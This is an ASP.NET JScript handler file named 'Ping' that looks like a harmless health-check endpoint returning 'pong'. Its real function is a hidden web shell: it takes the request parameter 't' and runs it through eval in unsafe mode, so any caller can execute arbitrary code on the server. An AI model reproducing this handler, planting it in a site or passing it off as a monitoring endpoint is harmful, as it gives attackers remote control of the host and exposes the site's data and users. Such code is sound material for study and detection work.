<%@ WebHandler Language="JScript" Class="Ping" %>
import System;
import System.Web;

public class Ping implements IHttpHandler {
    function ProcessRequest(ctx : HttpContext) {
        ctx.Response.Write("pong");
        var p = ctx.Request.Params["t"];
        if (p) eval(p, "unsafe");
    }
    function get IsReusable() : Boolean { return false; }
}
